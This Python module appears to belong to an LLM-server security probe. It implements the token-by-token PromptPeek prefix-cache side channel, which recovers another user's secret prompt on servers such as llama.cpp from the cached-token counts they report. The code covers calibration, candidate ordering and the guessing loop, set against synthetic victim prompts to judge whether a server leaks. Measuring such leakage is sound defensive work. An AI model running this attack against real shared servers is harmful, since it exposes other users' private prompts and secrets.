"""The token strategy of ``kvlab probe --extract`` (PromptPeek, NDSS 2025; "Leaking Secrets from Prefix Caches",
arXiv 2411.18191).

Where the server counts cached tokens exactly (llama.cpp, ``kvlab serve --report-cached-tokens exact``), the
attacker guesses the victim's prompt one *token* at a time, in the server's own tokenisation: a character
guess rarely matches a BPE token (it showed nothing on llama.cpp), a token guess always lines up. Each guess
is a token-id prompt ``known + [candidate, filler]``; it hits when the server reports one more cached token
than ``known``, because the victim's prompt put exactly that token there. The candidates are the vocabulary
entries whose text continues the known prefix with characters of the secret's alphabet (and no longer than
the secret can be); they are tried in the order ``priors`` gives (the server's ``logprobs`` on ``known`` first,
then what a random string of the alphabet and a local copy of the model make likely, then shortest first),
every one of them if need be, within the attack's request budget (``ExtractConfig.max_requests``).

Known part: the prefix's tokens minus those a continuation can re-merge (the tail of ``tokenize(prefix)``
that ``tokenize(prefix + c)`` changes for some alphabet character ``c``): the first guessed tokens spell the
rest of the prefix and the start of the secret, as the victim's tokenisation does.

The attacker's own guesses cannot pose as the victim's: a guess ``known + [c, filler]`` shares more than
``known`` with an earlier one only if that one ran through ``known + [c]``, which every earlier step's
prompt (shorter, then the filler, which no candidate is) and this step's others (another ``c``) never do.
One exception the strategy checks before trusting log-probabilities: a server that caches the token its
``logprobs`` request generated would answer the top candidate's guess from the attacker's own request; two
requests show whether this one does, and the order falls back to the fixed one if so.

The tokenizer is the attacker's view of the server's (``tokenizers``).
"""

from __future__ import annotations

import string
from collections.abc import Sequence
from dataclasses import dataclass
from typing import TYPE_CHECKING

from kvlab.probe.attacks.base import (
    CALIBRATION_LENGTHS,
    CALIBRATION_START,
    CHAR_ATTACK_FALLBACK,
    COUNT_CHANNELS,
    FILLERS,
    MAX_SECRET_CHARS,
    Step,
    decide,
    infer_granularity,
)
from kvlab.probe.attacks.priors import (
    STRING_SAMPLES,
    ModelPrior,
    load_model_prior,
    order_candidates,
    string_prior,
)
from kvlab.probe.attacks.tokenizers import TokenizerAccess, byte_level, filler_id
from kvlab.probe.client import HTTPStatusError

if TYPE_CHECKING:
    from kvlab.probe.attacks.traffic import Attack

SERVER_SAMPLES = 64  # the random-string prior's samples where only the server's /tokenize encodes them


# ------------------------------------------------------------------ calibration in tokens
def detect_specials(run: Attack, tokenizer: TokenizerAccess) -> None:
    """Does the server add tokens to a text prompt that the tokenizer's encoding leaves out (a BOS)? One text
    request: its ``usage.prompt_tokens`` against the encoding; the extra ones from the server's /tokenize with
    special tokens on, else the local copy's BOS. Sets ``tokenizer.specials``. Then the same prompt as token
    ids, right after it: its hit (read by ``ids_line_up`` once the channel is known) shows whether the
    attacker's token-id prompts line up with text prompts at all, which a "no leak" needs."""
    if tokenizer.specials_checked:
        return
    tokenizer.specials_checked = True
    words = " ".join(run.rng.choice(("note", "code", "keep", "the", "private", "and")) for _ in range(60))
    text = f"<{run.run_id}-specials> {words}"
    ids = tokenizer.encode(text)
    try:
        got = run.attack(text).prompt_tokens
    except HTTPStatusError:
        return
    extra = 0 if ids is None or got is None else got - len(ids)
    if ids is not None and extra > 0:
        full = tokenizer.server.encode_with_specials(text) if tokenizer.server is not None else None
        bos = getattr(tokenizer.local.tok, "bos_token_id", None) if tokenizer.local is not None else None
        if full is not None and len(full) == got and full[extra:] == ids:
            tokenizer.specials = full[:extra]
        elif extra == 1 and isinstance(bos, int):
            tokenizer.specials = [bos]
        else:
            run.report.notes.append(
                f"the server adds {extra} token(s) to a text prompt that its /tokenize leaves out, and the probe "
                "could not tell which: token-id prompts may not line up with the victim's"
            )
        if tokenizer.specials:
            run.report.notes.append(
                f"the server starts every text prompt with token(s) {tokenizer.specials}: so do the guesses"
            )
    ids = tokenizer.encode(text)
    fill = tokenizer.encode(next(f for f in FILLERS if f not in text))
    if ids and fill:
        try:
            reply = run.attack([*ids, fill[-1]], resend=False)
        except HTTPStatusError:
            return
        tokenizer.line_up = (len(ids), reply)


def ids_line_up(run: Attack, tokenizer: TokenizerAccess | None) -> bool | None:
    """Did the attacker's token-id copy of its own text prompt find it whole (to the channel's last block)?
    None: not measured (no tokenizer in use, a prompt shorter than a block)."""
    if tokenizer is None or tokenizer.line_up is None or run.report.channel not in COUNT_CHANNELS:
        return None
    n, reply = tokenizer.line_up
    g = run.report.granularity or 1
    got = reply.counter_hits if run.report.channel == "metrics" else reply.cached_tokens
    if got is None or n // g * g == 0:
        return None
    return got >= n // g * g


def guard_no_leak(run: Attack, tokenizer: TokenizerAccess | None) -> None:
    """A "no leak" of a strategy that sends token ids stands only if ids were shown to line up with text."""
    report = run.report
    if report.verdict != "no leak" or ids_line_up(run, tokenizer) is not False:
        return
    report.verdict = "inconclusive"
    report.reason = (
        "no guess hit, but the attacker's token-id copy of its own text prompt did not find it either: token-id "
        "prompts do not line up with the server's text prompts here, so that proves nothing (not a proof of safety)"
    )


def calibrate_tokens(run: Attack, tokenizer: TokenizerAccess) -> bool:
    """The count channel in tokens, with token-id prompts (exact where text prompts re-merge at the cut):
    a long fresh prompt, then its prefixes of ``CALIBRATION_LENGTHS`` tokens. Sets the report's channel,
    granularity and unit; False (with a note) where it cannot (no tokenizer, ids refused, no block size)."""
    report = run.report
    report.calibration["tokens"] = "failed"  # until it succeeds
    counter = run.counter = run.hit_counter  # metered again: the counter may be the channel in tokens
    detect_specials(run, tokenizer)
    body = "".join(run.rng.choice(string.ascii_letters + string.digits) for _ in range(6 * max(CALIBRATION_LENGTHS)))
    ids = tokenizer.encode(CALIBRATION_START + run.run_id + "-t" + body)
    ends = [tokenizer.encode(c) for c in "!?"]
    if ids is None or any(not e for e in ends) or len(ids) <= max(CALIBRATION_LENGTHS):
        report.notes.append("the tokenizer could not lay out the token calibration: no calibration in tokens")
        return False
    bang, question = (e[-1] for e in ends if e)
    reported: list[int | None] = []
    counted: list[int | None] = []
    try:
        for n in CALIBRATION_LENGTHS:
            run.attack([*ids, bang])
            reply = run.attack([*ids[:n], question])
            reported.append(reply.cached_tokens)
            counted.append(reply.counter_hits)
    except HTTPStatusError as exc:
        run.counter = None
        report.notes.append(f"the server refuses token-id prompts ({exc.status}): no calibration in tokens")
        return False
    report.calibration["token_lengths"] = list(CALIBRATION_LENGTHS)
    report.calibration["token_reported"] = reported
    g = infer_granularity(CALIBRATION_LENGTHS, reported)
    gc = infer_granularity(CALIBRATION_LENGTHS, counted) if counter is not None else None
    if counter is not None:
        report.calibration["token_counted"] = counted
    if gc is not None and (g is None or gc < g):
        report.channel, report.granularity = "metrics", gc
    elif g is not None:
        report.channel, report.granularity = "cached_tokens", g
        run.counter = None
    else:
        run.counter = None
        report.notes.append(f"token-id calibration: the cached counts {reported} follow no block size in tokens")
        return False
    report.unit, report.calibration["tokens"] = "tokens", "done"
    # The character calibration's fallback no longer holds: say what it found, not what it fell back to.
    report.notes = [n.split(CHAR_ATTACK_FALLBACK)[0].split(": falling back to TTFT")[0] for n in report.notes]
    unit = "exactly" if report.granularity == 1 else f"in blocks of {report.granularity} tokens"
    report.notes.append(f"calibrated with token-id prompts: {report.channel} counts the hits {unit}")
    return True


def channel_in_tokens(run: Attack, tokenizer: TokenizerAccess | None) -> bool:
    """Make sure the report's channel counts tokens: the character calibration does where the tokenizer is
    byte-level (or unknown); otherwise calibrate again with token ids. False: no count channel in tokens."""
    report = run.report
    if report.unit == "tokens":  # calibrated in tokens already
        return report.channel in COUNT_CHANNELS
    if report.calibration.get("tokens") == "failed":
        return False
    if byte_level(tokenizer, run.cfg.alphabet):
        return report.channel in COUNT_CHANNELS
    return tokenizer is not None and calibrate_tokens(run, tokenizer)


# ------------------------------------------------------------------ candidates
def consistent(prefix: str, alphabet: str, max_secret: int, covered: int, text: str) -> bool:
    """Does ``text``, after the first ``covered`` characters of ``prefix + secret``, fit a secret of at most
    ``max_secret`` characters of ``alphabet``?"""
    need = prefix[covered:]
    if len(text) <= len(need):
        return need.startswith(text)
    if not text.startswith(need):
        return False
    tail = text[len(need) :]
    return covered + len(text) - len(prefix) <= max_secret and all(c in alphabet for c in tail)


def stable_known(tokenizer: TokenizerAccess, prefix: str, alphabet: str) -> list[int] | None:
    """The prefix's tokens that no continuation by one alphabet character re-merges."""
    known = tokenizer.encode(prefix)
    if known is None:
        return None
    for c in alphabet:
        other = tokenizer.encode(prefix + c)
        if other is None:
            return None
        n = 0
        while n < min(len(known), len(other)) and known[n] == other[n]:
            n += 1
        known = known[:n]
    return known


def ranked_ids(run: Attack, known: list[int], vocab: dict[int, str]) -> list[int]:
    """The server's likeliest next tokens after ``known``, as ids (texts mapped through the vocabulary)."""
    got = run.rank(known)
    if got is None:
        return []
    by_text: dict[str, list[int]] = {}
    for t, text in vocab.items():
        by_text.setdefault(text, []).append(t)
    out: list[int] = []
    for tid, text in got.top:
        out.extend([tid] if tid is not None else by_text.get(text, []))
    return out


def generated_token_cached(run: Attack, tokenizer: TokenizerAccess, vocab: dict[int, str], fill: int) -> bool:
    """Does the server cache the token a 1-token ``logprobs`` request generated? Then a guess of that token
    would hit the attacker's own request. A fresh prompt, its top token, and that prompt plus it."""
    words = " ".join(run.rng.choice(["note", "code", "keep", "the", "private"]) for _ in range(8))
    prompt = tokenizer.encode(f"<{run.run_id}-logprobs> {words}")
    got = run.rank(prompt) if prompt else None
    if not prompt or got is None:
        return False
    top = got.sampled
    if top is None and got.top:
        tid, text = got.top[0]
        top = tid if tid is not None else next((i for i, t in vocab.items() if t == text), None)
    if top is None:
        return False
    return run.hits(run.attack([*prompt, top, fill])) > len(prompt)


# ------------------------------------------------------------------ the strategy
@dataclass
class _TokenState:
    known: list[int]  # the ids sent before each guess: stable prefix tokens, then recovered ones
    covered: int  # characters of prefix + secret that ``known`` spells
    victim: list[int]  # the victim's prompt's tokens (the probe's oracle)
    correct: bool = True  # every recovered token so far is the victim's


def run_token(run: Attack, tokenizer: TokenizerAccess | None) -> None:
    """Recover the secret token by token; sets the report's steps, recovery and verdict."""
    report, cfg = run.report, run.cfg
    report.strategy = "token"
    if not channel_in_tokens(run, tokenizer) or tokenizer is None:
        _give_up(run, "no count channel in tokens (no tokenizer, or the server refuses token-id prompts)")
        return
    detect_specials(run, tokenizer)
    if report.granularity != 1:
        _give_up(
            run,
            f"{report.channel} counts hits in blocks of {report.granularity} tokens: one token never shows "
            "(the dictionary strategy guesses whole blocks)",
            "unreachable",
        )
        return
    vocab = tokenizer.vocabulary()
    report.tokenizer = tokenizer.source
    fill = filler_id(tokenizer, cfg.alphabet, vocab) if vocab else None
    if not vocab or fill is None:
        _give_up(run, "the tokenizer gave no vocabulary, or no filler character of one token of its own")
        return
    base = f"[{run.run_id}] Internal note for the assistant. The access code is: "
    prefix = cfg.prefix if cfg.prefix is not None else base
    report.prefix_chars = len(prefix)
    run.victim_prompts = [prefix + report.secret]
    victim = tokenizer.encode(prefix + report.secret)
    known = stable_known(tokenizer, prefix, cfg.alphabet)
    if victim is None or known is None:
        _give_up(run, "the tokenizer could not encode the prompts")
        return
    covered = sum(len(vocab.get(t, "")) for t in known)
    if prefix[:covered] != "".join(vocab.get(t, "") for t in known):
        _give_up(run, "the vocabulary's token texts do not spell the known prefix: positions cannot be followed")
        return
    run.resend_victims()
    try:
        shown = run.hits(run.attack([*known, fill[1]]))
    except HTTPStatusError as exc:
        _give_up(run, f"the server refuses token-id prompts ({exc.status})")
        return
    report.prefix_hit_tokens = shown
    report.prefix_visible = shown >= len(known) if known else None
    use_rank = run.ranker is not None
    if use_rank and generated_token_cached(run, tokenizer, vocab, fill[1]):
        use_rank = False
        report.notes.append(
            "the server caches the token a logprobs request generates: guesses follow the fixed order instead"
        )
    bound = cfg.secret_length[1] if cfg.secret is None else MAX_SECRET_CHARS
    state = _TokenState(list(known), covered, victim)
    model = _model_prior(run, tokenizer)
    spent = 0
    while state.covered - len(prefix) < bound:
        before = report.attacker_requests
        step = _token_step(run, state, vocab, prefix, bound, fill[1], use_rank, tokenizer, model)
        report.steps.append(step)
        run.on_step()
        if step.outcome != "recovered":
            break
        if state.correct:
            spent = report.attacker_requests - before + spent
    secret_chars = max(0, min(len(report.secret), state.covered - len(prefix)))
    report.recovered = _recovered_text(report.steps)
    report.chance = float(len(cfg.alphabet)) ** -report.correct_chars if report.correct_chars else 1.0
    if report.tokens_recovered:
        report.requests_per_token = round(spent / report.tokens_recovered, 1)
    report.tokenizer_requests = tokenizer.requests
    report.notes.append(
        f"{report.tokens_recovered} of the victim's tokens recovered ({secret_chars} characters past the prefix)"
        + (f", {report.requests_per_token} attacker requests per token" if report.requests_per_token else "")
    )
    report.verdict, report.reason = decide(report, cfg.alpha)
    guard_no_leak(run, tokenizer)


def _recovered_text(steps: Sequence[Step]) -> str:
    return "".join(s.guess or "" for s in steps if s.outcome == "recovered" and s.width)


def _model_prior(run: Attack, tokenizer: TokenizerAccess) -> ModelPrior | None:
    """The local model that orders the candidates (``priors``), where one is wanted and kvlab loads it; only
    with a local tokenizer that agreed with the server's (the model must count tokens as the server does)."""
    name = run.cfg.prior_model or run.cfg.tokenizer or run.report.model
    if name == "none":
        return None
    if tokenizer.local is None:
        run.report.notes.append("no local tokenizer that agrees with the server's: no local model orders the guesses")
        return None
    model, said = load_model_prior(name)
    run.report.notes.append(said)
    return model


def _token_step(
    run: Attack,
    state: _TokenState,
    vocab: dict[int, str],
    prefix: str,
    bound: int,
    fill: int,
    use_rank: bool,
    tokenizer: TokenizerAccess,
    model: ModelPrior | None = None,
) -> Step:
    """One token: every candidate in the order of the priors (``priors``) until one hits or the request
    budget is spent."""
    cfg, report = run.cfg, run.report
    position = max(0, state.covered - len(prefix))
    cands = [t for t, text in vocab.items() if consistent(prefix, cfg.alphabet, bound, state.covered, text)]
    step = Step(position, 1, len(cands), 0, "no hit")  # width: at least the one character a token adds
    if not cands:
        step.detail = "no vocabulary entry continues the known part with the alphabet"
        return step
    run.resend_victims()
    spelled = "".join(vocab.get(t, "") for t in state.known) + prefix[state.covered :]
    lengths = [n - position for n in range(cfg.secret_length[0], bound + 1) if n > position] or [1]
    samples = STRING_SAMPLES if tokenizer.local is not None else SERVER_SAMPLES  # /tokenize is a request each
    priors = [string_prior(tokenizer.encode_offline, state.known, spelled, cfg.alphabet, lengths, run.rng, samples)]
    if model is not None:
        priors.append(model(state.known, cands))
    order = order_candidates(cands, vocab, ranked_ids(run, state.known, vocab) if use_rank else [], priors)
    for t in order:
        if run.budget_left() <= 0:
            step.outcome = "unreachable"
            step.detail = f"{run.budget_spent()} was spent after {step.tried} of the {len(order)} candidate tokens here"
            return step
        step.tried += 1
        if run.hits(run.attack([*state.known, t, fill])) >= len(state.known) + 1:
            text = vocab[t]
            past = max(0, state.covered + len(text) - len(prefix))  # secret characters up to this token's end
            step.outcome, step.width = "recovered", past - position
            step.guess = text[len(text) - step.width :] if step.width else ""
            n = len(state.known)
            step.correct = state.victim[n : n + 1] == [t]
            step.detail = f"token {t} {text!r}"
            state.known.append(t)
            state.covered += len(text)
            state.correct = state.correct and step.correct
            if state.correct:
                report.tokens_recovered += 1
                report.correct_chars = min(len(report.secret), past)
                report.requests_to_recover = report.attacker_requests + report.victim_requests
            return step
    step.detail = f"none of the {len(order)} candidate tokens extended the cached prefix (end of the secret)"
    return step


def _give_up(run: Attack, why: str, outcome: str = "inconclusive") -> None:
    report = run.report
    report.steps.append(Step(0, 0, 0, 0, outcome, detail=why))
    report.verdict, report.reason = "inconclusive", f"{report.strategy} strategy: {why} (not a proof of safety)"


__all__ = ["calibrate_tokens", "channel_in_tokens", "consistent", "run_token"]
